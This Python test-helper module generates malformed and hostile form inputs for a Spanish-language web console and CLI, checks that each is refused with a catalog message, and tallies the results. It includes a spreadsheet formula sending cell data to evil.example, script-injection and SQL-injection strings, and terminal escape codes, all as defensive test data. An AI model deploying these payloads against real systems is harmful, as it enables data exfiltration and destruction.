"""The bad values of the bad-input table, the check that a message is Spanish, and the tally.

Each field is tried with every kind of bad value that applies to it, built from a valid value of the
field so that only the bad part differs. A refusal counts when it names the field and its message is
one of the Spanish catalog's sentences; anything else is an accepted value (wrongly) or a crash.
"""
from __future__ import annotations

import html
import re
from collections import Counter
from dataclasses import dataclass, field
from functools import cache

from pathlib import Path

import wtforms
from babel.messages.pofile import read_po

import habilita

# Our catalog, and WTForms' own Spanish for what a model form's field refuses before the model sees it
# (a required field left empty, more characters than the column: "El campo no puede tener más de 20 caracteres.").
CATALOGS = (Path(habilita.__file__).parent / "translations" / "es" / "LC_MESSAGES" / "messages.po",
            Path(wtforms.__file__).parent / "locale" / "es" / "LC_MESSAGES" / "wtforms.po")

# An emoji DejaVu Sans has no glyph for (its Emoticons block has 😀, not this one).
EMOJI = "\U0001F984"
ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"ver")'
HTML = '<script>alert(1)</script>'
SQL = "'; DROP TABLE company; --"


@dataclass(frozen=True)
class Field:
    """A field of a form: its name, a valid value, its longest value, and what kind of text it is."""

    name: str
    valid: str
    limit: int
    kind: str = "words"  # "words", "digits", "email", "guid", "actor"
    required: bool = True
    # A value giving this field a wrong check digit, when it carries one or is checked against one.
    wrong_check_digit: str = ""
    # Other fields' values every try of this field is sent with (a check digit needs a NIT beside it).
    context: dict = field(default_factory=dict)
    # Where a refusal may be shown besides the field itself (a company form shows a check digit that does
    # not match at the tax id it belongs to, "NIT-DV" being one thing to the reader).
    also_at: tuple[str, ...] = ()


def bad_values(f: Field) -> list[tuple[str, str]]:
    """(kind of bad value, value) for ``f``: every kind that applies to a field of its kind."""
    v = f.valid
    if f.kind == "email":
        local, _, domain = v.partition("@")
        values = [("too long", "a" * f.limit + "@" + domain), ("NUL", f"{local}\x00@{domain}"),
                  ("control characters", f"{local}\x1b[2J\x07@{domain}"),
                  ("non-ASCII digits", f"{local}{'123'.translate(ARABIC_INDIC)}@{domain}"),
                  ("emoji", f"{local}{EMOJI}@{domain}"), ("formula", f"=1+2@{domain}"),
                  ("HTML", f"<script>@{domain}"), ("SQL-looking", f"' OR '1'='1'--@{domain}")]
    elif f.kind == "actor":
        # Who acts is filled by the console; the CLI takes it as typed, so it is held to the text rules.
        values = [("too long", v + "a" * f.limit), ("NUL", v + "\x00"), ("control characters", "\x1b[2J" + v)]
    elif f.kind in ("digits", "guid"):
        values = [("too long", v + "1" * f.limit), ("NUL", v[:1] + "\x00" + v[1:]),
                  ("control characters", v[:1] + "\x07\x1b" + v[1:]),
                  ("non-ASCII digits", v.translate(ARABIC_INDIC)), ("emoji", v[:1] + EMOJI),
                  ("formula", "=1+2"), ("HTML", HTML), ("SQL-looking", SQL)]
    else:
        values = [("too long", v + "a" * f.limit), ("NUL", v + "\x00"), ("control characters", v + " \x1b[31m\x07"),
                  ("non-ASCII digits", v + " " + "3".translate(ARABIC_INDIC)), ("emoji", v + " " + EMOJI),
                  ("formula", FORMULA), ("HTML", HTML), ("SQL-looking", SQL)]
    if f.required:
        values.insert(0, ("empty", ""))
    if f.wrong_check_digit:
        values.append(("wrong check digit", f.wrong_check_digit))
    return values


@cache
def _spanish_sentences() -> list[re.Pattern]:
    patterns = []
    for path in CATALOGS:
        with open(path, "rb") as po:
            catalog = read_po(po)
        for message in catalog:
            strings = message.string if isinstance(message.string, tuple) else (message.string,)
            for string in filter(None, strings if message.id else ()):
                parts = re.split(r"%\(\w+\)[sd]", string)
                patterns.append(re.compile(".+?".join(map(re.escape, parts)), re.DOTALL))
    return patterns


def is_spanish_message(text: str) -> bool:
    """True when ``text`` is one of the catalog's Spanish sentences with its parameters filled in."""
    text = html.unescape(text).strip()
    return bool(text) and any(p.fullmatch(text) for p in _spanish_sentences())


_STEP_FORM_ERROR = re.compile(r'data-field="(\w+)">(.*?)</div>', re.DOTALL)
_MODEL_FORM_ERROR = re.compile(r'id="(\w+)"[^>]*>\s*<div class="invalid-feedback">\s*<ul[^>]*>(.*?)</ul>', re.DOTALL)


def errors_at_fields(page: str) -> dict[str, list[str]]:
    """The error messages a console page shows under each field (step forms and model forms alike)."""
    found: dict[str, list[str]] = {}
    for name, message in _STEP_FORM_ERROR.findall(page):
        found.setdefault(name, []).append(message)
    for name, items in _MODEL_FORM_ERROR.findall(page):
        found.setdefault(name, []).extend(re.findall(r"<li>(.*?)</li>", items, re.DOTALL))
    return found


def errors_in_cli_output(output: str) -> dict[str, list[str]]:
    """The ``field: message`` lines a refused `habilita` command prints."""
    found: dict[str, list[str]] = {}
    for line in output.splitlines():
        name, colon, message = line.partition(": ")
        if colon and re.fullmatch(r"\w+", name):
            found.setdefault(name, []).append(message)
    return found


@dataclass
class Tally:
    """How the table's tries ended: refused at the field in Spanish, accepted wrongly, or crashed."""

    counts: Counter = field(default_factory=Counter)
    failures: list[str] = field(default_factory=list)

    def refused_at(self, where: str, field_names: tuple[str, ...], errors: dict[str, list[str]]) -> None:
        self.counts["tried"] += 1
        messages = [m for name in field_names for m in errors.get(name, [])]
        if messages and all(is_spanish_message(m) for m in messages):
            self.counts["refused"] += 1
        else:
            self.counts["accepted wrongly"] += 1
            self.failures.append(f"{where}: not refused at {'/'.join(field_names)} in Spanish ({errors})")

    def crashed(self, where: str, why: str) -> None:
        self.counts["tried"] += 1
        self.counts["crashed"] += 1
        self.failures.append(f"{where}: crashed ({why})")

    def accepted(self, where: str) -> None:
        self.counts["tried"] += 1
        self.counts["accepted wrongly"] += 1
        self.failures.append(f"{where}: accepted")

    def summary(self) -> str:
        c = self.counts
        return (f"tried {c['tried']}, refused {c['refused']}, accepted wrongly {c['accepted wrongly']}, "
                f"crashed {c['crashed']}")

    def assert_all_refused(self) -> None:
        print("bad-input table:", self.summary())
        assert self.counts["tried"] and self.counts["refused"] == self.counts["tried"], (
            self.summary() + "\n" + "\n".join(self.failures[:40]))
